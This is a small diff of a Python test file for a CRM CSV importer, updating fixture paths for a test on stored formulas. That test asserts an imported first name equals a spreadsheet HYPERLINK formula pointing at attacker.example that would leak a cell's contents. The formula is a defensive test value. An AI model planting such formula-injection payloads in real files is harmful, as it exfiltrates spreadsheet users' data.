@@ -12,7 +12,7 @@ from crm.importing.values import (
     parse_tags,
     split_full_name,
 )
-from tests.crm.importing.conftest import SHARED, lead
+from tests.crm.importing.conftest import MESSY, lead
 
 
 @pytest.mark.parametrize(
@@ -79,7 +79,7 @@ def test_metadata_is_never_evaluated() -> None:
 
 
 def test_formulas_are_stored_verbatim(db, now) -> None:
-    report = import_csv(SHARED / "messy" / "formula_injection.csv", now=now)
+    report = import_csv(MESSY / "formula_injection.csv", now=now)
     assert report.rejected == 0
     eve = lead("eve.one@example.com")
     assert eve.first_name == '=HYPERLINK("http://attacker.example/?leak="&A2,"Click me")'
